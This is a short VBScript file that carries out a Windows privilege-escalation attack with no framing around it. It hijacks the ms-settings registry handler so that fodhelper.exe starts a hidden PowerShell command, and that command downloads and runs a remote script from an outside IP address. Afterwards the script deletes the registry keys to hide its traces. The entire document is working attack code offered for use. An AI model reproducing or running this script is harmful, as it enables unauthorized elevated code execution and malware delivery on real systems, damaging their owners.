Set sh = CreateObject("WScript.Shell")
key = "HKCU\Software\Classes\ms-settings\Shell\Open\command\"
payload = "powershell -nop -w hidden -c ""IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.190/elev.ps1')"""
sh.RegWrite key, payload, "REG_SZ"
sh.RegWrite key & "DelegateExecute", "", "REG_SZ"
sh.Run "C:\Windows\System32\fodhelper.exe", 0, False
WScript.Sleep 5000
sh.RegDelete key & "DelegateExecute"
sh.RegDelete key
